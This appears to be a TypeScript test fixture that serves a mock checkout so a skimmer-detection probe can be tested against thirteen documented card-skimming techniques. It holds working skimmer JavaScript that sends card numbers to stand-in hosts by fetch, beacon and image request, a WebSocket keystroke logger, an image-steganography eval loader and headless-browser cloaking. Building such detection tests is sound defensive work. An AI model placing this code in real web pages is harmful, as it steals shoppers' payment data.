/**
 * A shop for the tests of `edgeguard-probe` as a skimmer hunter (issue 41): one HTTPS server, with
 * a certificate made at run time, answering for every host of the shop, its payment provider, its
 * tag manager and the skimmers' hosts (told apart by the `Host` header), as real sites would. Its
 * payment pages carry, one page each, the thirteen skimming techniques of the public record; its
 * clean pages (`/clean/pay`, `/clean/pay2`) hold what a healthy shop holds and must raise nothing.
 * Every body a test asserts on is exported, so the test can compute the hash the probe must name.
 */

import { createHash } from 'node:crypto';
import https from 'node:https';
import type { Duplex } from 'node:stream';
import { listenOn443 } from './probe-origin';
import { selfSignedCertificate } from './server';

/** The loopback address the shop listens on, port 443: neither the CSP truth's nor the probe origin's. */
export const SHOP_ADDRESS = '127.0.0.54';

export const SHOP = 'checkout.example.com';
export const PROVIDER = 'js.pay.example';
export const API = 'api.pay.example';
export const TAGS = 'tags.example';
export const SKIMMER = 'skimmer.example';
export const COLLECT = 'collect.example';
export const SOCKET = 'socket.example';
export const ANALYTICS_ALLOWED = 'www.google-analytics.example';
export const POLYFILL = 'polyfill.example';
export const FAKE_FORM = 'pay-secure.example';
export const LOOK_ALIKE = 'checkout-secure.example';
export const ANALYTICS = 'analytics.example';

/** Every host the shop answers for: the probe sends each to {@link SHOP_ADDRESS} with `--resolve`. */
export const SHOP_HOSTS = [
  SHOP,
  PROVIDER,
  API,
  TAGS,
  SKIMMER,
  COLLECT,
  SOCKET,
  ANALYTICS_ALLOWED,
  POLYFILL,
  FAKE_FORM,
  LOOK_ALIKE,
  ANALYTICS,
] as const;

/** The SHA-256 of a text, as the probe and page security write it. */
export function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

export const CARD_JS = `https://${PROVIDER}/v3/card.js`;
export const CARD_JS_BODY = 'window.payCard = { version: 3 };\n';
export const CHECKOUT_JS = `https://${SHOP}/static/js/checkout.js`;
const CHECKOUT_JS_BODY = 'window.checkout = { ready: true };\n';
export const MODERNIZR = `https://${SHOP}/static/js/modernizr.js`;
export const MODERNIZR_BODY = 'window.Modernizr = { touch: false };\n';
export const POLYFILL_JS = `https://${POLYFILL}/v3/polyfill.min.js`;
export const POLYFILL_BODY = 'window.polyfilled = true;\n';
export const API_TOKENS = `https://${API}/v1/tokens`;
export const SOCKET_URL = `wss://${SOCKET}/live`;

/** What a skimmer does with the number once read: each technique sends it its own way. */
const READ_NUMBER = `const field = document.querySelector('[autocomplete~="cc-number"]');
  const number = field ? field.value.replace(/\\s/g, '') : '';`;

// 1. An inline skimmer in the payment page's HTML, served to browsers only (Magecart).
export const INLINE_SKIMMER = `document.addEventListener('change', () => {
  ${READ_NUMBER}
  if (number.length >= 12) fetch('https://${COLLECT}/c', { method: 'POST', mode: 'no-cors', body: btoa(number) });
}, true);`;

// 2. A first-party script modified for browsers only (British Airways, 2018).
export const MODERNIZR_SKIMMED = `${MODERNIZR_BODY}document.addEventListener('change', () => {
  ${READ_NUMBER}
  if (number.length >= 12) navigator.sendBeacon('https://${COLLECT}/ba', JSON.stringify({ n: number }));
}, true);
`;

// 3. A third-party script changed for phones only (polyfill.io, 2024).
export const POLYFILL_PHONE = `${POLYFILL_BODY}if (/Mobile/.test(navigator.userAgent)) { window.__redirected = 'https://${SKIMMER}/'; }
`;

// 4. The tag manager adds a script from a host no entry authorizes.
export const TAG_ADDED = `https://${SKIMMER}/s.js`;

// 5. The tag manager inserts an inline script at run time.
export const TAG_INLINE = `window.__tagged = document.cookie.length; /* tag 5 */`;

// 6. Code hidden in an image's bytes, run with eval (steganography loaders).
export const IMAGE_PAYLOAD = `window.__stego = (function () { return 'loaded from an image'; })();`;
export const LOGO = `https://${SHOP}/static/img/logo.png`;
const PNG_HEAD = Buffer.from('89504e470d0a1a0a0000000049454e44ae426082', 'hex');

// 7. A fake card form: a frame from another host laid over the real one.
export const FAKE_FRAME = `https://${FAKE_FORM}/form.html`;

// 9. The card sent to an analytics host the CSP allows (Google Analytics, 2020).
export const GA_COLLECT = `https://${ANALYTICS_ALLOWED}/collect`;

// 10. A skimmer that does nothing when it sees automation.
export const CLOAKED = `https://${SKIMMER}/a.js`;

// 11. A skimmer that loads itself a second after the page.
export const LATE_SKIMMER = `https://${SKIMMER}/late.js`;

// 12. The payment page redirected to a look-alike checkout.
export const LOOK_ALIKE_PAGE = `https://${LOOK_ALIKE}/pay`;

// 13. A service worker registered by the page.
export const SERVICE_WORKER = `https://${SHOP}/sw.js`;

/** The tag manager's script for technique `id`: what `https://tags.example/gtm.js?id=…` runs. */
function tagBody(id: string): string {
  switch (id) {
    case 't4':
      return `(() => { const s = document.createElement('script'); s.src = ${JSON.stringify(TAG_ADDED)}; document.head.appendChild(s); })();`;
    case 't5':
      return `(() => { const s = document.createElement('script'); s.text = ${JSON.stringify(TAG_INLINE)}; document.head.appendChild(s); })();`;
    case 't6':
      return `fetch(${JSON.stringify(LOGO)}).then((r) => r.arrayBuffer()).then((bytes) => {
  const all = new Uint8Array(bytes);
  const text = new TextDecoder().decode(all.slice(${PNG_HEAD.length}));
  (0, eval)(text);
});`;
    case 't8':
      return `(() => {
  const socket = new WebSocket(${JSON.stringify(SOCKET_URL)});
  document.addEventListener('input', (event) => {
    if (socket.readyState === 1) socket.send(JSON.stringify({ f: event.target.autocomplete, v: event.target.value }));
  }, true);
})();`;
    case 't10':
      return `(() => {
  const automated = navigator.webdriver || /Headless/.test(navigator.userAgent) ||
    (navigator.userAgentData && navigator.userAgentData.brands.some((b) => /Headless/.test(b.brand)));
  if (automated) return;
  const s = document.createElement('script'); s.src = ${JSON.stringify(CLOAKED)}; document.head.appendChild(s);
})();`;
    case 't11':
      return `setTimeout(() => { const s = document.createElement('script'); s.src = ${JSON.stringify(LATE_SKIMMER)}; document.head.appendChild(s); }, 1000);`;
    default:
      return 'window.dataLayer = [];';
  }
}

/** The card fields of a form, as a shop writes them. */
const CARD_FIELDS = `<input name="number" autocomplete="cc-number" inputmode="numeric">
<input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"><input name="name" autocomplete="cc-name">`;

/** The page of each technique: what it adds to the checkout's head and body. */
const TECHNIQUES: Record<string, (browser: boolean) => { head?: string; body?: string }> = {
  '1': (browser) => ({ body: browser ? `<script>${INLINE_SKIMMER}</script>` : '' }),
  '2': () => ({ head: `<script src="${MODERNIZR}"></script>` }),
  '3': () => ({ head: `<script src="${POLYFILL_JS}"></script>` }),
  '4': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t4"></script>` }),
  '5': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t5"></script>` }),
  '6': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t6"></script>` }),
  '7': () => ({
    body: `<iframe src="${FAKE_FRAME}" style="position:absolute;top:0;left:0;width:100%;height:320px;border:0;background:#fff"></iframe>`,
  }),
  '8': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t8"></script>` }),
  '9': () => ({ head: `<script src="https://${SHOP}/static/js/t9-analytics.js"></script>` }),
  '10': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t10"></script>` }),
  '11': () => ({ head: `<script src="https://${TAGS}/gtm.js?id=t11"></script>` }),
  '13': () => ({ head: `<script src="https://${SHOP}/static/js/t13-worker.js"></script>` }),
};

/** The technique pages' numbers, 1 to 13, each at `https://checkout.example.com/t/<n>`. */
export const TECHNIQUE_NUMBERS = Array.from({ length: 13 }, (_, index) => index + 1);

/** A technique page, as the inventory writes it. */
export const techniquePage = (n: number) => `${SHOP}/t/${n}`;

/** The checkout's payment page, with a technique's additions. */
function checkoutPage(extra: { head?: string; body?: string }): string {
  return `<!doctype html><html><head><title>Pay</title>
<script src="${CARD_JS}"></script><script src="${CHECKOUT_JS}"></script>${extra.head ?? ''}</head>
<body><form id="pay" action="${API_TOKENS}" method="post">${CARD_FIELDS}<button>Pay</button></form>${extra.body ?? ''}</body></html>`;
}

/** The clean shop's stable inline configuration, authorized by its hash. */
export const CLEAN_CONFIG = 'window.shopConfig = { currency: "EUR", locale: "en-IE" };';
export const CLEAN_ANALYTICS = `https://${ANALYTICS}/a.js`;
const CLEAN_ANALYTICS_BODY = 'window.analyticsQueue = [];\n';
export const CLEAN_JS = `https://${SHOP}/static/js/clean.js`;
export const CLEAN_LATE = `https://${SHOP}/static/js/late.js`;
export const CARD_FRAME = `https://${PROVIDER}/v3/frame.html`;
export const CARD_FRAME_JS = `https://${PROVIDER}/v3/frame.js`;
/** The clean shop's pages, as the inventory writes them; its home page is not one. */
export const CLEAN_PAGES = [`${SHOP}/clean/pay`, `${SHOP}/clean/pay2`] as const;
export const CLEAN_HOME = `https://${SHOP}/clean/`;

function cleanPage(): string {
  const token = createHash('sha256').update(String(Math.random())).digest('hex');
  return `<!doctype html><html><head><title>Pay</title>
<script type="application/json" id="session">{"csrf":"${token}"}</script>
<script>${CLEAN_CONFIG}</script>
<script src="${CLEAN_ANALYTICS}"></script><script src="${CLEAN_JS}"></script></head>
<body><h1>Pay</h1><iframe src="${CARD_FRAME}" style="width:400px;height:200px;border:0"></iframe></body></html>`;
}

/** The body served for a URL, its content type and status, or `undefined` for a 404. */
interface Served {
  status?: number;
  type: string;
  body: string | Buffer;
  headers?: Record<string, string>;
}

const JS = 'text/javascript';
const HTML = 'text/html; charset=utf-8';

/** What the shop serves for `url` to a client whose user agent is `agent`. */
function serve(url: URL, agent: string): Served | undefined {
  // Served to browsers only, as cloaking skimmers do: page security's crawler is none of them.
  const browser = /Chrome\//.test(agent);
  const phone = /Mobile/.test(agent);
  const page = /^\/t\/([0-9]+)$/.exec(url.pathname);
  if (url.host === SHOP && page !== null) {
    if (page[1] === '12') return { status: 302, type: HTML, body: '', headers: { location: LOOK_ALIKE_PAGE } };
    const technique = TECHNIQUES[page[1] ?? ''];
    return technique === undefined ? undefined : { type: HTML, body: checkoutPage(technique(browser)) };
  }
  switch (url.href.replace(url.search, '')) {
    case `https://${SHOP}/clean/`:
      return { type: HTML, body: `<!doctype html><title>Shop</title><script src="${CLEAN_ANALYTICS}"></script>` };
    case `https://${SHOP}/clean/pay`:
    case `https://${SHOP}/clean/pay2`:
      return { type: HTML, body: cleanPage() };
    case LOOK_ALIKE_PAGE:
      return { type: HTML, body: checkoutPage({}) };
    case CARD_JS:
      return { type: JS, body: CARD_JS_BODY };
    case CHECKOUT_JS:
      return { type: JS, body: CHECKOUT_JS_BODY };
    case MODERNIZR:
      return { type: JS, body: browser ? MODERNIZR_SKIMMED : MODERNIZR_BODY };
    case POLYFILL_JS:
      return { type: JS, body: phone ? POLYFILL_PHONE : POLYFILL_BODY };
    case `https://${TAGS}/gtm.js`:
      return { type: JS, body: tagBody(url.searchParams.get('id') ?? '') };
    case TAG_ADDED:
    case CLOAKED:
    case LATE_SKIMMER:
      return { type: JS, body: `void ${JSON.stringify(url.pathname)};\n` };
    case LOGO:
      return { type: 'image/png', body: Buffer.concat([PNG_HEAD, Buffer.from(IMAGE_PAYLOAD)]) };
    case FAKE_FRAME:
      return {
        type: HTML,
        body: `<!doctype html><form>${CARD_FIELDS}</form><script>document.addEventListener('change', () => {
  ${READ_NUMBER}
  if (number.length >= 12) fetch('https://${FAKE_FORM}/collect', { method: 'POST', mode: 'no-cors', body: number });
}, true);</script>`,
      };
    case `https://${SHOP}/static/js/t9-analytics.js`:
      return {
        type: JS,
        body: `document.addEventListener('change', () => {
  ${READ_NUMBER}
  if (number.length >= 12) new Image().src = ${JSON.stringify(GA_COLLECT)} + '?v=1&t=event&el=' + encodeURIComponent(btoa(number));
}, true);`,
      };
    case `https://${SHOP}/static/js/t13-worker.js`:
      return { type: JS, body: `navigator.serviceWorker.register('/sw.js');` };
    case SERVICE_WORKER:
      return { type: JS, body: `self.addEventListener('fetch', () => {});` };
    case CLEAN_ANALYTICS:
      return { type: JS, body: CLEAN_ANALYTICS_BODY };
    case CLEAN_JS:
      return {
        type: JS,
        body: `setTimeout(() => { const s = document.createElement('script'); s.src = ${JSON.stringify(CLEAN_LATE)}; document.head.appendChild(s); }, 1000);`,
      };
    case CLEAN_LATE:
      return { type: JS, body: 'window.lateLoaded = true;\n' };
    case CARD_FRAME:
      return {
        type: HTML,
        body: `<!doctype html><form method="post" action="${API_TOKENS}">${CARD_FIELDS}</form><script src="${CARD_FRAME_JS}"></script>`,
      };
    case CARD_FRAME_JS:
      return {
        type: JS,
        body: `document.addEventListener('change', () => {
  ${READ_NUMBER}
  if (number.length >= 12) fetch(${JSON.stringify(API_TOKENS)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ number }) });
}, true);`,
      };
    default:
      // The collectors answer anything (an image, a beacon, a post) with nothing.
      if ([COLLECT, ANALYTICS_ALLOWED, FAKE_FORM, API].includes(url.host)) return { type: 'text/plain', body: '' };
      return undefined;
  }
}

/** A running shop. */
export interface ProbeShop {
  /** The requests it answered, as `host path`. */
  requests: string[];
  /** The WebSocket messages it received, as text. */
  messages: string[];
  /** The forms posted to it, as `host path`: only `--submit` posts one. */
  forms: string[];
  close(): Promise<void>;
}

/** Accepts a WebSocket (RFC 6455's handshake) and keeps the text of each message a client sends. */
function acceptWebSocket(socket: Duplex, key: string, messages: string[]): void {
  const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
  );
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    // Client frames are masked; lengths up to 64 KiB are enough for a test.
    while (pending.length >= 6) {
      let length = pending[1]! & 0x7f;
      let offset = 2;
      if (length === 126) {
        if (pending.length < 4) return;
        length = pending.readUInt16BE(2);
        offset = 4;
      }
      if (pending.length < offset + 4 + length) return;
      const mask = pending.subarray(offset, offset + 4);
      const data = Buffer.from(pending.subarray(offset + 4, offset + 4 + length).map((byte, i) => byte ^ mask[i % 4]!));
      if ((pending[0]! & 0x0f) === 1) messages.push(data.toString('utf8'));
      pending = pending.subarray(offset + 4 + length);
    }
  });
  socket.on('error', () => undefined);
}

/** Starts the shop on {@link SHOP_ADDRESS}:443. */
export async function startProbeShop(): Promise<ProbeShop> {
  const shop: ProbeShop = {
    requests: [],
    messages: [],
    forms: [],
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
  const server = https.createServer(selfSignedCertificate([...SHOP_HOSTS]), (request, response) => {
    const host = (request.headers.host ?? '').replace(/:443$/, '');
    shop.requests.push(`${host} ${request.url ?? '/'}`);
    if (request.method === 'POST' && /x-www-form-urlencoded/.test(request.headers['content-type'] ?? ''))
      shop.forms.push(`${host} ${request.url ?? '/'}`);
    request.resume();
    const served = serve(new URL(`https://${host}${request.url ?? '/'}`), request.headers['user-agent'] ?? '');
    if (served === undefined) {
      response.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
      return;
    }
    response
      .writeHead(served.status ?? 200, {
        'content-type': served.type,
        'cache-control': 'no-store',
        'access-control-allow-origin': '*',
        ...served.headers,
      })
      .end(served.body);
  });
  server.on('upgrade', (request, socket) => {
    const key = request.headers['sec-websocket-key'];
    if (request.headers.host?.replace(/:443$/, '') !== SOCKET || typeof key !== 'string') {
      socket.destroy();
      return;
    }
    acceptWebSocket(socket, key, shop.messages);
  });
  await listenOn443(server, SHOP_ADDRESS, "the probe's shop");
  return shop;
}
